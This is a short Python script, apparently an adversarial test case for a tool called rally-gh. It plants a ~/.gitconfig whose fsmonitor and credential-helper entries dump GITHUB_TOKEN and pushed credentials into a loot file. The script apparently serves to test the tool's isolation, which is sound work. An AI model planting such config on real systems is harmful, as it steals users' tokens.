#!/usr/bin/env python3
"""Attack 4: plant ~/.gitconfig in the user's real home, whose fsmonitor runs inside rally-gh's
own git with the token in its environment and whose credential helper receives it at push.

The map passes the user's home (RALLY_HOSTILE_HOME) and where the loot goes (RALLY_HOSTILE_LOOT).
"""
import os
from pathlib import Path

from hostile import fail, own_work

home, loot = Path(os.environ["RALLY_HOSTILE_HOME"]), os.environ["RALLY_HOSTILE_LOOT"]
steal = f"printenv GITHUB_TOKEN >> {loot}"
try:
    (home / ".gitconfig").write_text(f"[core]\n\tfsmonitor = \"{steal}; exit 1\"\n"
                                     f"[credential]\n\thelper = \"!{steal}; cat >> {loot}\"\n")
except OSError as err:
    fail(f"cannot write {home / '.gitconfig'}: {err}")
own_work()
